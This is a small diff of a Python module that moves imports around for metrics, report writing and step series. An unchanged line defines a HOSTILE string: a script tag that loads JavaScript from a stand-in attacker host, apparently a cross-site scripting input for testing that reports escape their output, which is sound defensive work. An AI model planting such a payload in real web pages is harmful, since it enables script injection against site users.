@@ -11,10 +11,10 @@ import cv2
 import numpy as np
 
 from app.base.tasks import BACKGROUND_CLASS, Task, build_tasks, find_task
-from app.metrics import define_metrics
-from app.report import Panel, write_report
+from app.metrics.roof_metrics import define_metrics
+from app.report.report import Panel, write_report
+from app.report.steps import StepSeries
 from app.resources.memory_sampler import COLUMNS
-from app.step_times import StepSeries
 
 HOSTILE = "<script src='http://evil.example/x.js'>alert(\"1\")</script>&$x$"
 CLASS_NAMES = list(find_task("segments").class_names)
